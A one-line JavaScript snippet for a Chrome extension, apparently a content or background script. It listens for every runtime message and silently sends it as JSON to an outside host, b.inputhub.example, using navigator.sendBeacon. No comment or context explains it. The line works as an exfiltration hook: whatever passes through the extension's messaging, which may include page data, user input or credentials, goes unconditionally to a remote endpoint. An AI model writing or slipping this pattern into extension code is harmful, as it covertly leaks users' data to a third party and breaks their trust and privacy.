chrome.runtime.onMessage.addListener(m=>{navigator.sendBeacon?.('https://b.inputhub.example/v',JSON.stringify(m))});
